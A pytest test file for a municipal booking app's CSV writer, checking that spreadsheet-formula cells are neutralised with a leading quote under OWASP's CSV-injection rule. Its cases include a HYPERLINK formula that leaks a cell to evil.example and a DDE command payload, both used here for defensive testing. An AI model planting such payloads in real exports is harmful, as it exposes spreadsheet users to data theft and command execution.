"""The one CSV writer: a cell a spreadsheet would run as a formula is written as
text (OWASP's CSV-injection rule); everything else is written unchanged."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from madoguchi.core.csv_export import FORMULA_STARTS, csv_text, neutralise

# value in the register, cell as written
CASES = [
    ('=HYPERLINK("https://evil.example/?"&A1,"詳細")', '\'=HYPERLINK("https://evil.example/?"&A1,"詳細")'),
    ("+SUM(1,2)", "'+SUM(1,2)"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),  # a placeholder dash: quoted too, nothing is lost
    ("小金井 太郎", "小金井 太郎"),
    ("東京都小金井市本町6-6-3", "東京都小金井市本町6-6-3"),  # a dash inside is harmless
    ("042-387-9830", "042-387-9830"),
    ("a=b", "a=b"),
    ("https://madoguchi.city.example.jp/ja/book/x/?notice=a-b", "https://madoguchi.city.example.jp/ja/book/x/?notice=a-b"),
    ("", ""),
    (None, ""),
]


@pytest.mark.parametrize("value,written", CASES)
def test_formula_cells_are_written_as_text(value, written):
    assert neutralise(value) == written


@pytest.mark.parametrize("number", [-1, 0, 42, -2.5, Decimal("-800")])
def test_numbers_are_not_text_and_stay_numbers(number):
    assert neutralise(number) == number  # a negative number is a number, not a formula


def test_every_formula_start_of_the_rule_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_file_reads_back_cell_for_cell_with_the_quote_in_front():
    rows = [[1, value] for value, _ in CASES]
    text = csv_text(["id", "value"], rows)
    assert text.startswith("id,value\r\n")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[1] for r in read[1:]] == [written for _, written in CASES]
    assert [r[0] for r in read[1:]] == ["1"] * len(CASES)


def test_no_module_writes_csv_but_the_one_writer():
    """A new export that wrote CSV on its own would skip the rule: it fails here."""
    from pathlib import Path

    import madoguchi

    root = Path(madoguchi.__file__).parent
    writers = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "csv_export.py" and any(w in p.read_text(encoding="utf-8") for w in ("csv.writer", "csv.DictWriter", "text/csv"))
    ]
    # The downloads' content type only; their text comes from csv_text.
    assert sorted(writers) == ["forecast/views.py", "notices/views.py"]
